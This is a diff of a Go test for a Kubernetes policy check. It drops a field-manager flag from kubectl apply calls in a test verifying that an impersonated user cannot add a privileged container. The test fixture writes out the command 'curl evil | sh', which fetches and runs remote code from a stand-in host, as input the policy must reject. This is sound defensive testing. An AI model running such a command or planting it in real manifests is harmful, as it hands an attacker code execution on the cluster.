@@ -51,7 +51,7 @@ func TestPersonAddingToWhatGitsNewRevisionAdds(t *testing.T) {
 		"spec.template.spec.containers[name=app].securityContext.capabilities", "where this update adds to the object")
 	privileged := strings.Replace(newDeployment, "          image: registry.example.com/exporter:2\n",
 		"          image: registry.example.com/exporter:2\n          command: [sh, -c, 'curl evil | sh']\n          securityContext:\n            privileged: true\n", 1)
-	r = env.kubectl.Run(privileged, "apply", "--server-side", "--force-conflicts", "--field-manager", "dev", "-f", "-", "--as", person)
+	r = env.kubectl.Run(privileged, "apply", "--server-side", "--force-conflicts", "-f", "-", "--as", person)
 	wantDenied(t, r, "spec.template.spec.containers[name=metrics].command", "spec.template.spec.containers[name=metrics].securityContext")
 	if sc := jsonpath(t, "deployment/web", "{.spec.template.spec.containers[*].securityContext}"); sc != "" {
 		t.Fatalf("securityContext after denied applies = %q, want none", sc)
@@ -59,7 +59,7 @@ func TestPersonAddingToWhatGitsNewRevisionAdds(t *testing.T) {
 
 	for _, apply := range [][]string{
 		{"apply", "-f", "-", "--as", person},
-		{"apply", "--server-side", "--force-conflicts", "--field-manager", "dev", "-f", "-", "--as", person},
+		{"apply", "--server-side", "--force-conflicts", "-f", "-", "--as", person},
 	} {
 		// The stored Deployment is Git's previous revision, as the agent
 		// applied it.
